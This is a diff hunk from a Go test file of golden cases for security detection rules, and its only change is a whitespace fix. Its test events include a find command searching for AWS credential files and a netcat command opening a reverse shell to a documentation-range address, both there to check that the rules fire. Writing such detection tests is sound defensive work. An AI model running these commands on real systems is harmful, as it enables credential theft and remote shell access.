@@ -120,7 +120,7 @@ func goldenCases() []goldenCase {
 			fire:  execEvent(hostCmd("find", "/usr/bin/find", "/", "-path", "*/.aws/credentials")),
 			quiet: execEvent(hostCmd("find", "/usr/bin/find", "/", "-name", "*.log"))},
 		{rule: "System user interactive",
-			fire: execEvent(with(hostCmd("ls", "/usr/bin/ls"), func(p *event.Process) { p.User, p.UID = userDaemon, userDaemon.UID })),
+			fire:  execEvent(with(hostCmd("ls", "/usr/bin/ls"), func(p *event.Process) { p.User, p.UID = userDaemon, userDaemon.UID })),
 			quiet: execEvent(with(hostCmd("ls", "/usr/bin/ls"), func(p *event.Process) { p.User, p.UID = userAlice, userAlice.UID }))},
 		{rule: "Netcat Remote Code Execution in Container",
 			fire:  execEvent(ctrCmd("nc", "/usr/bin/nc", 0, "-e", "/bin/sh", "203.0.113.9", "4444")),
